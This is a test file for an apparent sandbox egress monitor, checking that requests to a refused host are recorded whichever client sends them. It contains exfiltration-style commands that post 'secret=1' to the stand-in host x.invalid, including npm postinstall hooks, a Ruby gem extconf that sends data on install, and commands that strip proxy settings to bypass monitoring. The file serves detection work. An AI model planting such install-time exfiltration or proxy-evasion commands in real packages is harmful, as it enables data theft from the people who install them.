import { describe, expect, it } from 'vitest';
import type { EgressRecord } from '../../../src/egress/record.js';
import type { Ecosystem } from '../../../src/jobs/job.js';
import { gem } from '../../sandbox/gem.js';
import { installed } from '../../sandbox/installed.js';
import { projectRunning, withProject } from '../../sandbox/rig.js';
import type { Files } from '../../sandbox/tarball.js';

const SCRIPT_MS = 60_000;
const URL = 'https://x.invalid/abc?d=1';

/** What the project's own script had on record at the gateway, and what it printed. */
const recorded = (command: string) => recordedBy(projectRunning(command), 'npm');

async function recordedBy(
  files: Files,
  ecosystem: Ecosystem,
): Promise<{ records: readonly EgressRecord[]; log: string }> {
  return withProject(
    files,
    async (run) => {
      const { log } = await installed(run, SCRIPT_MS);
      return { records: run.egressEvidence().egress, log };
    },
    { sink: { status: 404 } },
    ecosystem,
  );
}

/** Node's and Bun's own ways through a proxy: a tunnel that is asked for, then TLS in it. */
const TUNNEL = `const { hostname: host, port } = new URL(process.env.https_proxy);
  require('node:http').request({ host, port, method: 'CONNECT', path: 'x.invalid:443' }).on('connect', (_, socket) => {
    const options = { socket, servername: 'x.invalid', agent: false, host: 'x.invalid', path: '/abc?d=1', method: 'POST' };
    require('node:https').request(options, (answer) => { console.log(answer.statusCode); process.exit(); }).end('secret=1');
  }).end();`;
const node = (program: string, more = ''): string => `${more}node -e ${JSON.stringify(program.replaceAll('\n', ' '))}`;
const FETCH = `fetch('${URL}', { method: 'POST', body: 'secret=1' }).then((answer) => console.log(answer.status))`;
const PYTHON = `import urllib.request as r; print(r.urlopen('${URL}', data=b'secret=1').status)`;

const PROGRAMS: readonly [name: string, command: string, request: Partial<EgressRecord['requests'][number]>][] = [
  ['curl', `curl -sS -d secret=1 '${URL}'`, { method: 'POST', body: 'secret=1', bodyKind: 'form', status: 200 }],
  ['wget', `wget -O- --post-data=secret=1 '${URL}'`, { method: 'POST', body: 'secret=1', status: 200 }],
  ["Node's https", node(TUNNEL), { method: 'POST', body: 'secret=1', status: 200 }],
  ["Node's fetch", node(FETCH, 'NODE_USE_ENV_PROXY=1 '), { method: 'POST', body: 'secret=1', status: 200 }],
  ["Python's urllib", `python3 -c "${PYTHON}"`, { method: 'POST', body: 'secret=1', status: 200 }],
  ['Bun', `/usr/local/lib/node_modules/bun/bin/bun -e "${FETCH}"`, { method: 'POST', body: 'secret=1', status: 200 }],
];

/** The environment without the proxy variables. */
const BARE = 'env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u NODE_USE_ENV_PROXY';
const RAW = `require('node:tls').connect({ host: 'x.invalid', port: 443, servername: 'x.invalid' }, function () {
  this.write('POST /abc?d=1 HTTP/1.1\\r\\nHost: x.invalid\\r\\nContent-Length: 8\\r\\n\\r\\nsecret=1'); this.resume(); });`;
/** It shares the dispatcher of Node's fetch, and thereby the proxy. */
const UNDICI = `require('undici').request('${URL}', { method: 'POST', body: 'secret=1' })`;
const POSTED = { method: 'POST', body: 'secret=1', status: 200 } as const;
const HTTPS = `require('node:https').request('${URL}', { method: 'POST' }, (answer) => console.log(answer.statusCode)).end('secret=1')`;
const PLAIN = HTTPS.replaceAll('https', 'http');
const BARE_PYTHON = PYTHON.replace('r.urlopen', 'r.build_opener(r.ProxyHandler({})).open');
const WITHOUT_A_PROXY: readonly [
  name: string,
  command: string,
  port: number,
  request: Partial<EgressRecord['requests'][number]>,
][] = [
  ['curl', `curl -sS --noproxy '*' -d secret=1 '${URL}'`, 443, POSTED],
  ['wget', `wget --no-proxy -O- --post-data=secret=1 '${URL}'`, 443, POSTED],
  ["Node's https", node(HTTPS, `${BARE} `), 443, POSTED],
  ["Node's http", node(PLAIN, `${BARE} `), 80, POSTED],
  ["Node's fetch", node(FETCH, `${BARE} `), 443, POSTED],
  ["Node's tls", node(RAW, `${BARE} `), 443, POSTED],
  ["Python's urllib", `python3 -c "${BARE_PYTHON}"`, 443, POSTED],
];

describe('what is sent to a refused host is seen, whoever sends it', () => {
  it.each(PROGRAMS)('%s', async (_name, command, request) => {
    const { records, log } = await recorded(`${command} || true`);
    const record = records.find(({ host }) => host === 'x.invalid');
    expect(record?.requests, log).toEqual([expect.objectContaining({ path: '/abc?d=1', ...request })]);
    expect(record).toMatchObject({ allowed: false, port: 443, bytesSent: 0 });
  });

  it("Ruby's net/http", async () => {
    const program = `require 'mkmf'\nrequire 'net/http'\nputs Net::HTTP.post(URI('${URL}'), 'secret=1').code\ncreate_makefile('x')\n`;
    const files = {
      Gemfile: 'source "https://rubygems.org"\ngem "noisy"\n',
      'vendor/cache/noisy-1.2.3.gem': await gem('noisy', { 'ext/extconf.rb': program, 'lib/noisy.rb': '' }),
    };
    const { records, log } = await recordedBy(files, 'bundler');
    // The name's address is the gateway's, to which Ruby takes no proxy.
    expect(records.find(({ host, via }) => host === 'x.invalid' && via === 'transparent')?.requests, log).toEqual([
      expect.objectContaining({ method: 'POST', path: '/abc?d=1', body: 'secret=1', status: 200 }),
    ]);
  });

  it.each([
    ['axios through the proxy', 'axios@1.7.9', 'proxy', `require('axios').post('${URL}', 'secret=1')`, ''],
    [
      'axios without it',
      'axios@1.7.9',
      'transparent',
      `require('axios').post('${URL}', 'secret=1', { proxy: false })`,
      BARE,
    ],
    ['undici through the proxy', 'undici@7.16.0', 'proxy', UNDICI, ''],
    ['undici without it', 'undici@7.16.0', 'transparent', UNDICI, BARE],
  ])('%s', async (_name, client, via, program, bare) => {
    const [name = '', version = ''] = client.split('@');
    const manifest = {
      name: 'project',
      version: '1.0.0',
      dependencies: { [name]: version },
      scripts: { postinstall: `${node(program, bare === '' ? '' : `${bare} `)} || true` },
    };
    const { records, log } = await recordedBy({ 'package.json': manifest }, 'npm');
    const record = records.find((one) => one.host === 'x.invalid' && one.via === via);
    expect(record?.requests, log).toEqual([expect.objectContaining({ path: '/abc?d=1', ...POSTED })]);
  });

  it('git', async () => {
    const { records, log } = await recorded('git ls-remote https://x.invalid/a/b.git || true');
    const asked = records.find(({ host }) => host === 'x.invalid')?.requests;
    expect(asked?.[0], log).toMatchObject({ path: '/a/b.git/info/refs?service=git-upload-pack', status: 404 });
  });

  it('npm', async () => {
    const { records, log } = await recorded('npm view --registry=https://x.invalid/ left-pad || true');
    const asked = records.find(({ host }) => host === 'x.invalid')?.requests;
    expect(asked?.[0], log).toMatchObject({ method: 'GET', path: '/left-pad', status: 404 });
  });

  it.each(WITHOUT_A_PROXY)('without a proxy: %s', async (_name, command, port, request) => {
    const { records, log } = await recorded(`${command} || true`);
    const record = records.find(({ host, via }) => host === 'x.invalid' && via === 'transparent');
    expect(record?.requests, log).toEqual([expect.objectContaining({ path: '/abc?d=1', ...request })]);
    expect(record).toMatchObject({ allowed: false, port, bytesSent: 0 });
    expect(records.map(({ via }) => via)).not.toContain('proxy');
  });

  it('without a proxy npm is served by the registry all the same', async () => {
    const { records, log } = await recorded(
      `${BARE} npm_config_proxy= npm_config_https_proxy= npm view left-pad version`,
    );
    expect(log).toMatch(/^1\.\d+\.\d+$/m);
    expect(records.find(({ via }) => via === 'transparent')).toMatchObject({
      host: 'registry.npmjs.org',
      allowed: true,
    });
  });

  it('without a proxy, a client that trusts only its own authority is reported', async () => {
    const { records } = await recorded(
      `curl -sS --noproxy '*' --cacert /etc/ssl/certs/ca-certificates.crt '${URL}' || true`,
    );
    expect(records.find(({ via }) => via === 'transparent')).toMatchObject({
      host: 'x.invalid',
      allowed: false,
      unread: [{ reason: 'certificate-not-trusted', serverName: 'x.invalid', count: 1 }],
    });
  });

  it('a client that trusts only its own authority is reported', async () => {
    const { records } = await recorded(`curl -sS --cacert /etc/ssl/certs/ca-certificates.crt '${URL}' || true`);
    expect(records.find(({ host }) => host === 'x.invalid')).toMatchObject({
      allowed: false,
      requests: [],
      unread: [{ reason: 'certificate-not-trusted', serverName: 'x.invalid', count: 1 }],
    });
  });
});
